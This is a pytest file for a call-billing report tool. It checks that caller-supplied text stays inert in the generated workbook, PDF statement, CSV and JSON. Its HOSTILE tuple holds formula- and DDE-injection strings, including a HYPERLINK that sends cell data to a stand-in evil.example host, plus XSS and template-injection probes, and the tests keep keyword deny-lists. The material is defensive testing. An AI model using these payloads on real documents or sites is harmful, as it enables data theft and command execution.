"""Text that callers choose stays text in every file of a pack: nothing runs, fetches or hides."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from carriers import KEY, OCTOBER, SYDNEY, call
from workspaces import BOOKED, DAY, SETTLED, STATEMENT, Desk, Fickle, changes_in, printed, sheet

from maxo_reports import cli
from maxo_reports.cli import clock
from maxo_reports.core.text import visible

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"pay here")',
    "=cmd|' /C calc'!A0",
    "+61491570006",
    "-1+1",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "<script>fetch('http://evil.example')</script>",
    "</t></is></c><c><f>1+1</f></c>",
    '"><img src=http://evil.example/x.png onerror=alert(1)>',
    "{{7*7}}{% for x in range(9) %}x{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "_x003D_1+1",
    "a\x00b\x07c\x1bd\x7fe",
    "\u202egpj.exe\u2066",
    "line one\r\nline two",
    "z" + "\u0301" * 40,
    "&amp;&#61;&lt;b&gt;",
    "x" * 40_000,
)
NAMESPACE = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
OURS = re.compile(r"[A-Za-z_0-9 '!$:,.()*<>=&\[\]#@\"+-]+")
poppler = pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler is not installed")


def month(texts: tuple[str, ...]) -> list[dict[str, object]]:
    """Make two calls with each text, as a category, and everywhere else that callers write."""
    calls: list[dict[str, object]] = []
    for n, text in enumerate(texts, 1):
        at = OCTOBER + n * DAY
        calls += [
            call(n, at, zone=SYDNEY, inboundrate=text, cost=f"{n}.5"),
            call(
                f"{n}-{text}",
                at + 1,
                zone=SYDNEY,
                status=text,
                origin=text,
                destination=text,
                direction=text if n % 2 else "OUT",
                cost=text if n % 3 else "0.01",
            ),
        ]
    return calls


HARMLESS = tuple(
    f"word {n:02}" if visible(text, 32_767).isascii() else f"w\u00f6rd {n:02}"
    for n, text in enumerate(HOSTILE)
)
"""As many words; not ASCII where those are not, since such names are compared in another way."""


def issued(folder: Path, texts: tuple[str, ...], definition: str) -> Path:
    """Issue a month twice, so that there is a revision with changes, and return the second."""
    folder.mkdir()
    before = [each | {"cost": "0.07"} for each in month(texts)]
    with Fickle(before) as carrier, pytest.MonkeyPatch.context() as patch:
        patch.setenv("MAXO_API_KEY", KEY)
        patch.setattr(clock, "now", lambda: SETTLED)
        desk = Desk(folder, carrier)
        assert desk.run().code == 1
        carrier.hold(month(texts))
        desk.define(definition)
        second = desk.run()
        assert (second.code, second.said["revision"]) == (1, 2)
        return second.pack


@pytest.fixture(scope="module")
def pack(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Issue the hostile month."""
    return issued(tmp_path_factory.mktemp("hostile") / "books", HOSTILE, STATEMENT)


@pytest.fixture(scope="module")
def twin(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Issue the same month with harmless words in the same places."""
    workbook = BOOKED
    return issued(tmp_path_factory.mktemp("harmless") / "books", HARMLESS, workbook)


def parts(pack: Path) -> dict[str, bytes]:
    """Return the raw parts of a pack's workbook."""
    with zipfile.ZipFile(next(pack.glob("*.xlsx"))) as package:
        return {name: package.read(name) for name in package.namelist()}


def formulas(pack: Path) -> list[str]:
    """Return every formula in the sheets' XML, sorted."""
    found = []
    for name, part in parts(pack).items():
        if name.startswith("xl/worksheets/sheet"):
            found += [
                each.text or "" for each in ET.fromstring(part).iterfind(".//m:f", NAMESPACE)
            ]
    return sorted(found)


# --- the workbook --------------------------------------------------------------------------


def test_the_only_formulas_are_ours(pack: Path, twin: Path) -> None:
    """As many as with harmless words, and of the same text but for the rows that they name."""

    def shape(formula: str) -> str:
        # Names that are not plain are compared with EXACT: the same question, asked with care.
        plain = re.sub(r"EXACT\(([^,()]+),([^,()]+)\)", r"(\1=\2)", formula)
        return re.sub(r"[0-9]+", "#", plain)

    ours, theirs = formulas(twin), formulas(pack)
    assert len(ours) > 20
    assert sorted(map(shape, theirs)) == sorted(map(shape, ours))
    for formula in theirs:
        assert OURS.fullmatch(formula)
        for word in ("HYPERLINK", "cmd", "evil", "script", "WEBSERVICE"):
            assert word not in formula


def test_every_part_is_whole_xml_that_points_nowhere(pack: Path, twin: Path) -> None:
    """No link, no macro, no control character; the same parts as the harmless twin's."""
    inside = parts(pack)
    assert sorted(inside) == sorted(parts(twin))
    for name, part in inside.items():
        root = ET.fromstring(part)
        tags = {element.tag.rpartition("}")[2] for element in root.iter()}
        assert not tags & {"hyperlink", "hyperlinks", "externalReference", "script", "img"}, name
        assert b'TargetMode="External"' not in part, name
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", part), name
        assert b"evil.example" not in part or name.startswith("xl/"), name
    assert not any("vba" in name.lower() or "external" in name.lower() for name in inside)


def test_cells_hold_the_text_as_it_came_made_visible(pack: Path) -> None:
    """Another reader gets each text back, unseen characters by their number, cut at the limit."""
    rows = sheet(pack, "Calls")
    heading, listed = rows[0], rows[1:]
    by_id = {row[0]: dict(zip(heading, row, strict=True)) for row in listed}
    for n, text in enumerate(HOSTILE, 1):
        shown = visible(text, 32_767)
        assert by_id[str(n)]["Rate category"] == shown
        other = by_id[visible(f"{n}-{text}", 32_767)]
        assert (other["From"], other["To"], other["Status"]) == (shown, shown, shown)
    assert max(len(str(cell)) for row in listed for cell in row) == 32_767
    names = {row[0] for row in sheet(pack, "By category")}
    assert {visible(text, 32_767) for text in HOSTILE} <= names


def test_a_text_that_looks_like_a_formula_stays_one_when_edited(pack: Path) -> None:
    """Its style says that it was typed as text, so that Enter in the cell makes no formula."""
    inside = parts(pack)
    styles = ET.fromstring(inside["xl/styles.xml"])
    cells = styles.find("m:cellXfs", NAMESPACE)
    assert cells is not None
    quoted = {str(n) for n, each in enumerate(cells) if each.get("quotePrefix") == "1"}
    assert quoted
    seen = 0
    for name, part in inside.items():
        if not name.startswith("xl/worksheets/sheet"):
            continue
        for cell in ET.fromstring(part).iterfind(".//m:c", NAMESPACE):
            text = "".join(each.text or "" for each in cell.iterfind(".//m:t", NAMESPACE))
            if text[:1] in {"=", "+", "-", "@"}:
                assert cell.get("s") in quoted, (name, cell.get("r"), text[:40])
                seen += 1
    assert seen >= 10


# --- the statement -------------------------------------------------------------------------


def streams(pdf: Path) -> Iterator[bytes]:
    """Yield a PDF's bytes, and those that are packed inside it."""
    content = pdf.read_bytes()
    yield content
    for piece in content.split(b"stream\n")[1:]:
        try:
            yield zlib.decompressobj().decompress(piece)
        except zlib.error:
            continue


def test_the_statement_has_nothing_to_click_or_run(pack: Path) -> None:
    """No script, no link, no action, no form and no file inside."""
    for stream in streams(next(pack.glob("*.pdf"))):
        for word in (b"/JavaScript", b"/JS ", b"/URI", b"/Launch", b"/AcroForm", b"/OpenAction"):
            assert word not in stream
        assert b"/EmbeddedFile" not in stream
        assert b"/GoToR" not in stream


@poppler
def test_the_statement_prints_the_words_and_does_not_work_them_out(pack: Path) -> None:
    """Braces are braces, brackets are brackets, and 7*7 is not 49."""
    text = re.sub(r"\s+", "", printed(pack))
    for words in (
        "{{7*7}}",
        "<script>fetch(",
        "=HYPERLINK(",
        "${7*7}#{7*7}<%=7*7%>",
        "&amp;&#61;",
    ):
        assert words in text
    assert "‹U+202E›gpj.exe" in text
    assert "a‹U+0000›b‹U+0007›c" in text
    assert "x" * 101 not in text
    for unseen in ("\u202e", "\x00", "\x1b", "\u2066"):
        assert unseen not in text


@pytest.mark.skipif(not shutil.which("pdfimages"), reason="poppler is not installed")
def test_the_statement_fetched_no_picture(pack: Path) -> None:
    """There is no image in it."""
    done = subprocess.run(
        ["pdfimages", "-list", str(next(pack.glob("*.pdf")))],
        check=True,
        capture_output=True,
        text=True,
    )
    assert len(done.stdout.splitlines()) == 2


# --- for programs --------------------------------------------------------------------------


def test_csv_and_json_give_every_letter_back(pack: Path) -> None:
    """Programs read exactly what the carrier sent, 40,000 letters of it."""
    rows = {row["call_id"]: row for row in changes_in(pack)}
    for n, text in enumerate(HOSTILE, 1):
        assert rows[str(n)]["category"] == text
        assert rows[f"{n}-{text}"]["b_party"] == text
    for name in ("manifest.json", "completeness.json"):
        content = (pack / name).read_bytes()
        assert not re.search(rb"[\x00-\x09\x0b-\x1f]", content)
    found = json.loads((pack / "manifest.json").read_bytes())["findings"]
    assert {each["code"] for each in found} >= {"direction-unknown", "cost-unreadable"}


def test_the_pack_still_verifies(pack: Path) -> None:
    """It is whole, and can be made again to the last byte."""
    books = pack.parents[3]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(clock, "now", lambda: SETTLED)
        assert cli.main(["-C", str(books), "verify", str(pack), "--rebuild"]) == 0
